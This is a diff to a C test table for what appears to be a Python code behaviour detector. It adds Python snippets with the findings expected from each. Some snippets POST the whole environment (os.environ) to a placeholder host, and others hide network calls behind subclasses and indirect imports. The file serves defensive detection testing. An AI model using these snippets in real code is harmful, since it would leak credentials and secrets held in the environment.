@@ -26,6 +26,20 @@ static const struct behavior_case cases[] = {
       "capability process os.system import", NULL },
     { "import functools, os\nfunctools.partial(os.system, 'id')()\n",
       "capability process os.system id", NULL },
+    /* classes */
+    { "import http.client as h\nclass C(h.HTTPSConnection):\n    pass\nc = C('a.invalid')\n"
+      "c.request('GET', '/')\n",
+      "capability network http.client.HTTPSConnection a.invalid", NULL },
+    { "import socket\nclass B(socket.socket): pass\nclass C(B):\n    def go(self):\n"
+      "        super().connect(('a.invalid', 80))\nC().go()\n",
+      "capability network connect a.invalid", NULL },
+    { "from .packages.six.moves.http_client import HTTPSConnection\nimport os\n"
+      "HTTPSConnection('a.invalid').request('POST', '/', str(os.environ))\n",
+      "flow env-all network", NULL },
+    { "import os\nfrom .pools import pool\npool.request('POST', '/', str(dict(os.environ)))\n",
+      "flow env-all network", NULL },
+    { "import os\nfrom .config import settings\nsettings.update(dict(os.environ))\n",
+      "capability env-all", "flow" },
     /* texts that are put together */
     { "import requests\nrequests.get('ht' + 'tps://' + 'a.example' + '.com')\n",
       "capability network requests.get https://a.example.com\nendpoint https://a.example.com",
